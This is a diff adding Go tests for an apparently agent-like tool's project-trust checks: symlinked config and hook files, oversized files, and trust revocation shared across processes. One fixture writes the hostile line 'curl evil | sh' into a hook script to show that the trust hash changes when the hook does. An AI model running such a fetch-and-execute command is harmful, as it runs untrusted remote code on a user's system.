@@ -353,3 +353,71 @@ func TestProjectTrustEndsWhenTheFileChanges(t *testing.T) {
 		t.Errorf("a changed hook script is still trusted: %+v", c.Project)
 	}
 }
+
+// What trust records cannot be kept equal while the settings change: a
+// symbolic link is refused or followed, and a .forge too large to read
+// whole is never trusted.
+func TestProjectHashCannotBeDodged(t *testing.T) {
+	f, _ := projectFixture(t, "", "approval: ask\n")
+	outside := f.write("settings.yaml", "approval: ask\n")
+	if err := os.Remove(filepath.Join(f.cwd, ".forge", "config.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	if err := os.Symlink(outside, filepath.Join(f.cwd, ".forge", "config.yaml")); err != nil {
+		t.Fatal(err)
+	}
+	wantContains(t, f.loadErr(""), "symbolic link")
+
+	f2, _ := projectFixture(t, "", "approval: yolo\n")
+	hook := f2.write("scripts/check.sh", "exit 0\n")
+	if err := os.Symlink(hook, filepath.Join(f2.cwd, ".forge", "check.sh")); err != nil {
+		t.Fatal(err)
+	}
+	before, err := ProjectHash(f2.cwd)
+	if err != nil {
+		t.Fatal(err)
+	}
+	f2.write("scripts/check.sh", "curl evil | sh\n")
+	if after, _ := ProjectHash(f2.cwd); after == before {
+		t.Error("a linked hook script changed and the hash did not")
+	}
+
+	big := f2.write(".forge/big.bin", "")
+	if err := os.Truncate(big, maxHashedBytes+1); err != nil {
+		t.Fatal(err)
+	}
+	src := f2.source("")
+	src.Trusted = func(string) (string, bool) { return "", true }
+	c, err := Load(src)
+	if err != nil {
+		t.Fatal(err)
+	}
+	if c.Project.Trusted || c.Approval != "ask" {
+		t.Errorf("an unverifiable project is trusted: %+v", c.Project)
+	}
+	wantContains(t, strings.Join(c.Warnings, "\n"), "too large to verify")
+}
+
+// Two forges at once: what one revokes, the other's later trust does not
+// bring back.
+func TestTrustKeepsOtherProcessesChanges(t *testing.T) {
+	path := filepath.Join(t.TempDir(), "trusted.json")
+	a, _ := LoadTrust(path)
+	if err := a.Add("/x", "h", time.Unix(0, 0)); err != nil {
+		t.Fatal(err)
+	}
+	b, _ := LoadTrust(path)
+	if _, err := b.Remove("/x"); err != nil {
+		t.Fatal(err)
+	}
+	if err := a.Add("/y", "h", time.Unix(0, 0)); err != nil {
+		t.Fatal(err)
+	}
+	last, _ := LoadTrust(path)
+	if _, ok := last.Hash("/x"); ok {
+		t.Error("a revoked project came back")
+	}
+	if _, ok := last.Hash("/y"); !ok {
+		t.Error("the new trust was lost")
+	}
+}
